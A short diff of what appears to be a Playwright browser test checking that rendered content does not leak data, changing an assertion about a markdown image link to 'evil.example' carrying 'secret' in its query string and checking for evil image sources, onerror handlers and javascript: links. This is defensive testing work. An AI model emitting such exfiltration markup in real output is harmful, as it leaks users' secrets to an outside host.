@@ -144,7 +144,7 @@ test(
       if (/content security policy/i.test(message.text())) deeds.push(message.text());
     });
     await page.goto(generated.headers().location!);
-    await expect(page.getByText("![x](https://evil.example/?q=secret)").first()).toBeVisible();
+    await expect(page.getByRole("link", { name: "x", exact: true }).first()).toBeVisible();
     expect(await page.locator("img[src*=evil], [onerror], a[href^='javascript:' i]").count()).toBe(0);
     expect(deeds).toEqual([]);
     // The control: as markup, it does act.
